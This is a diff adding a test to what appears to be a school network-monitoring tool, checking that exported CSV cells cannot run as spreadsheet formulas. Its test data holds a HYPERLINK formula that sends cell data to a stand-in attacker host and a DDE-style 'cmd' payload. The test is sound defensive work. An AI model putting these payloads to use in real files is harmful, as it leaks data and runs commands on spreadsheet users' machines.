@@ -53,3 +53,55 @@ def test_csv_header_is_the_field_table(tmp_path):
     out, _ = writer.seal({})
     assert (out / "sessions.csv").read_text() == ",".join(ECS_FIELDS) + "\n"
     assert (out / "sessions.jsonl").read_text() == ""
+
+
+FORMULA_HOST = '=HYPERLINK("http://evil.example/?"&A1,"Click").youtube.com'
+
+
+def test_a_formula_in_a_dns_query_reaches_every_csv_as_text(tmp_path, capsys):
+    """A trust laptop asks its resolver for `=HYPERLINK(...).youtube.com` (and a proxy user signs in
+    as `@SUM(...)`): through the real sensor, tagger, store, export and listing, no CSV cell the
+    project writes starts like a formula, and the JSON lines keep the names as seen."""
+    import csv
+
+    from scapy.layers.dns import DNS, DNSQR
+    from scapy.layers.inet import IP, UDP
+    from scapy.layers.l2 import Ether
+
+    from monitor.capture.sensor import Sensor
+    from monitor.cli import main
+    from monitor.observation import Observation
+    from monitor.store.sqlite import open_store
+    from monitor.tagging.tagger import Tagger
+    from tests.conftest import london
+    from tests.export_helpers import identity_trust, jsonl
+
+    config = identity_trust(tmp_path)
+    frame = bytes(Ether(src="3c:52:82:20:00:02", dst="00:00:5e:00:53:01")
+                  / IP(src="10.20.10.41", dst="10.20.0.1")
+                  / UDP(sport=53000, dport=53) / DNS(rd=1, qd=DNSQR(qname=FORMULA_HOST)))
+    seen: list[Observation] = []
+    Sensor(seen.append).feed(london(2026, 11, 2, 11, 30), 1, frame)
+    seen.append(Observation(london(2026, 11, 2, 12, 20), "10.20.30.10", 50000, "198.51.100.7", 443, "tcp",
+                            "tls",
+                            "www.reddit.com", source="proxy", user="@SUM(1+1)*cmd|' /C calc'!A0"))
+    tagger = Tagger(config)
+    with open_store(config.store_path) as store:
+        store.write(e for e in (tagger.tag(o) for o in seen) if e.recordable)
+    base = ["--config", str(config.path)]
+    day = ["--school", "ash-secondary", "--from", "2026-11-02", "--to", "2026-11-02"]
+    assert main(["export", *base, *day, "--out", str(tmp_path / "aliases")]) == 0
+    assert main(["export", *base, *day, "--out", str(tmp_path / "named"), "--identify", "--reason", "t"]) == 0
+    assert main(["sar", *base, "--staff", "S2002", "--out", str(tmp_path / "sar")]) == 0
+    capsys.readouterr()
+    assert main(["events", *base, "--format", "csv", "--identified", "--reason", "t"]) == 0
+    listing = capsys.readouterr().out
+    tables = {name: (tmp_path / name / "sessions.csv").read_text() for name in ("aliases", "named", "sar")}
+    tables["events"] = listing
+    for name, text in tables.items():
+        cells = [c for row in csv.reader(text.splitlines()) for c in row]
+        assert f"'{FORMULA_HOST.lower()}" in cells, name
+        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], name
+    named = {r["social.hostnames"]: r["user.id"] for r in rows(tmp_path / "named")}
+    assert named["www.reddit.com"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert FORMULA_HOST.lower() in [r["social.hostnames"][0] for r in jsonl(tmp_path / "named")]
